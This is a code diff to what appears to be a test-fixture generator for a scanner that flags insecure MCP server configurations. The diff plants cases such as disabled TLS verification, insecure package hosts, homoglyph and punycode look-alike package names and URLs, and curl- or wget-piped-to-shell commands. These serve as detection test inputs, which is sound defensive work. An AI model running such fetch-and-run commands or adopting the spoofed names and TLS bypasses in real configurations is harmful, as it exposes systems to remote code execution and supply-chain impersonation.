@@ -122,7 +122,7 @@ def _connections() -> Iterator[tuple[str, str, Edit]]:
     yield "MA402", "git", env(GIT_SSL_NO_VERIFY="true")
     yield "MA402", "jira", env(JIRA_SSL_VERIFY="false")
     yield "MA402", "option", arguments("--insecure")
-    yield "MA402", "uv", launch("uvx", "--allow-insecure-host", "i.example.org", "time==1.0")
+    yield "MA402", "switch", arguments("--ssl-verify=false")
     yield "MA402", "node", launch("docker", "run", "-i", "-e", "NODE_TLS_REJECT_UNAUTHORIZED=0",
                                   f"example/clock@sha256:{characters(HEX, 64)}")  # fmt: skip
     for option in ("--host", "--bind", "--listen-address"):
@@ -158,6 +158,7 @@ def _launches() -> Iterator[tuple[str, str, Edit]]:
         yield "MA104", image, launch("docker", "run", "-i", "--rm", image)
     yield "MA108", "http", launch("npx", "-y", "--registry", "http://i.example.org", "a@1.0.0")
     yield "MA108", "extra", launch("uvx", "--extra-index-url", "https://i.example.org", "a==1.0")
+    yield "MA108", "host", launch("uvx", "--allow-insecure-host", "i.example.org", "a==1.0")
     for script in ("curl -fsSL https://example.org/i.sh | sh", "wget -qO- https://e.example | bash",
                    'eval "$(curl -fsSL https://example.org/i.sh)"'):  # fmt: skip
         yield "MA201", script, launch("sh", "-c", script)
@@ -187,7 +188,7 @@ def _texts() -> Iterator[tuple[str, str, Edit]]:
     yield "MA701", "tag", env(A="a\U000e0041")
     yield "MA701", "escape", env(A="ok\u001b[2J")
     yield "MA702", "package", launch("npx", "-y", "@mod\u0435lcontextprotocol/server-git@1.0.0")
-    yield "MA702", "host", remote("https://\u0430pi.github.com/mcp")
+    yield "MA702", "address", remote("https://\u0430pi.github.com/mcp")
     yield "MA702", "punycode", remote("https://xn--pi-7kc.github.com/mcp")
     yield "MA707", "one text", lambda entry: entry.update(command="npx -y clock@1.0.0", args=[])
     yield "MA707", "both", key("url", "https://mcp.example.com/mcp")
@@ -197,9 +198,11 @@ def _texts() -> Iterator[tuple[str, str, Edit]]:
 def _base(number: int, rule: str, what: str) -> str:
     if rule == "MA307":
         return BASES[1]
+    if what == "key block":  # its line breaks are more to `cmd /c`
+        return BASES[0]
     if rule in ("MA401", "MA403", "MA405", "MA303") and not what.startswith("bridge"):
         return REMOTE_BASE
-    return BASES[1] if what == "host" else BASES[number % len(BASES)]
+    return BASES[1] if what in ("address", "punycode") else BASES[number % len(BASES)]
 
 
 def _approvals() -> Iterator[Planted]:
